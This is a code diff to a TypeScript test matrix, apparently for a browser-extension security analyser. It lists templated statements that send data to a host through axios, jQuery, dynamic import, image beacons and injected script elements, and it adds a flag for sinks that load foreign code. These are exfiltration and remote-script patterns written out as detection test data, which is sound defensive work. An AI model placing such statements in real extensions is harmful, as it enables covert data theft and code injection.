@@ -9,6 +9,8 @@ export interface MatrixSink {
   readonly permissions?: readonly string[];
   /** Statements that send the expression to `host` (an origin or a path without the last slash). */
   send(expression: string, host: string): string;
+  /** Foreign code is loaded by it whatever is sent: its harmless twin always has the extension's own host. */
+  readonly loadsCode?: true;
   /** Whether the same statements are harmless when the host is the extension's own package. */
   readonly hasOwnHost: boolean;
 }
@@ -84,17 +86,18 @@ export const SINKS: readonly MatrixSink[] = [
   sink('axios-config', (x, host) => `axios({ url: '${host}/c', method: 'post', data: ${x} });`),
   sink('jquery-post', (x, host) => `$.post('${host}/c', { d: ${x} });`),
   sink('jquery-ajax', (x, host) => `$.ajax({ url: '${host}/c', type: 'POST', data: ${x} });`),
-  sink('imported-script', (x, host) => `import('${host}/c.js?d=' + ${x});`),
+  sink('imported-script', (x, host) => `import('${host}/c.js?d=' + ${x});`, { loadsCode: true }),
   inPage('image', (x, host) => `new Image().src = '${host}/p.gif?d=' + ${x};`),
   inPage(
     'image-element',
     (x, host) =>
       `const img = document.createElement('img'); img.setAttribute('src', '${host}/p.gif?d=' + ${x}); document.body.appendChild(img);`,
   ),
-  inPage(
+  sink(
     'script-element',
     (x, host) =>
       `const script = document.createElement('script'); script.src = \`${host}/j?cb=a&d=\${${x}}\`; document.head.append(script);`,
+    { part: 'content', loadsCode: true },
   ),
   inPage(
     'frame',
